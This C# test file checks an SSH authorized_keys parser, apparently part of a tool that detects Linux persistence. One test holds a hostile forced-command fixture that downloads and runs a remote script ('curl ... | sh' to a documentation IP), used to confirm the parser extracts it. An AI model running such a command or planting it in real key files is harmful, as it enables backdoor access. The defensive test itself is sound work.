using Atalaya.Platform.Linux.Persistence;

namespace Atalaya.Platform.Linux.Tests.Persistence;

public sealed class AuthorizedKeysParserTests
{
    // A real ed25519 public key generated with ssh-keygen for this test (no private half kept).
    private const string Blob = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKX8c7p1kt3lQW6MDwAT7Y5xW";

    [Fact]
    public void Parses_a_plain_key()
    {
        Assert.True(AuthorizedKeysParser.TryParseLine($"ssh-ed25519 {Blob} ana@laptop", out var key));
        Assert.Null(key.Options);
        Assert.Null(key.Command);
        Assert.Equal("ssh-ed25519", key.KeyType);
        Assert.Equal(Blob, key.KeyBlob);
        Assert.Equal("ana@laptop", key.Comment);
        Assert.StartsWith("SHA256:", key.Fingerprint, StringComparison.Ordinal);
        Assert.Equal(50, key.Fingerprint!.Length);
    }

    [Fact]
    public void Parses_options_with_quoted_spaces_commas_and_escaped_quotes()
    {
        var line = $"from=\"10.0.0.0/8,192.0.2.1\",command=\"/usr/bin/rrsync -ro \\\"/srv/a b\\\"\",no-pty ssh-ed25519 {Blob} backup key";
        Assert.True(AuthorizedKeysParser.TryParseLine(line, out var key));
        Assert.Equal("from=\"10.0.0.0/8,192.0.2.1\",command=\"/usr/bin/rrsync -ro \\\"/srv/a b\\\"\",no-pty", key.Options);
        Assert.Equal("/usr/bin/rrsync -ro \"/srv/a b\"", key.Command);
        Assert.Equal("ssh-ed25519", key.KeyType);
        Assert.Equal("backup key", key.Comment);
    }

    [Fact]
    public void Hostile_forced_command_is_extracted()
    {
        var line = $"COMMAND=\"bash -c 'curl -s http://203.0.113.9/i|sh'\" sk-ssh-ed25519@openssh.com {Blob}";
        Assert.True(AuthorizedKeysParser.TryParseLine(line, out var key));
        Assert.Equal("bash -c 'curl -s http://203.0.113.9/i|sh'", key.Command);
        Assert.Equal("sk-ssh-ed25519@openssh.com", key.KeyType);
        Assert.Null(key.Comment);
        Assert.Equal("curl", CommandTarget.Find(key.Command!));
    }

    [Theory]
    [InlineData("ssh-rsa")]
    [InlineData("command=\"unterminated ssh-ed25519 AAAA")]
    [InlineData("no-pty notakeytype AAAA")]
    [InlineData("hello world")]
    [InlineData("# ssh-rsa AAAA")]
    public void Rejects_malformed_lines(string line) => Assert.False(AuthorizedKeysParser.TryParseLine(line, out _));

    [Fact]
    public void Key_with_a_non_base64_blob_has_no_fingerprint()
    {
        Assert.True(AuthorizedKeysParser.TryParseLine("ssh-rsa !!!notbase64", out var key));
        Assert.Null(key.Fingerprint);
    }

    [Fact]
    public void Parses_a_file_with_comments_and_counts_bad_lines()
    {
        var text = $"# keys\n\nssh-ed25519 {Blob} a\r\ngarbage\necdsa-sha2-nistp256 {Blob} b\n";
        var keys = AuthorizedKeysParser.Parse(text, out var malformed);
        Assert.Equal(["a", "b"], keys.Select(k => k.Comment));
        Assert.Equal(1, malformed);
    }
}
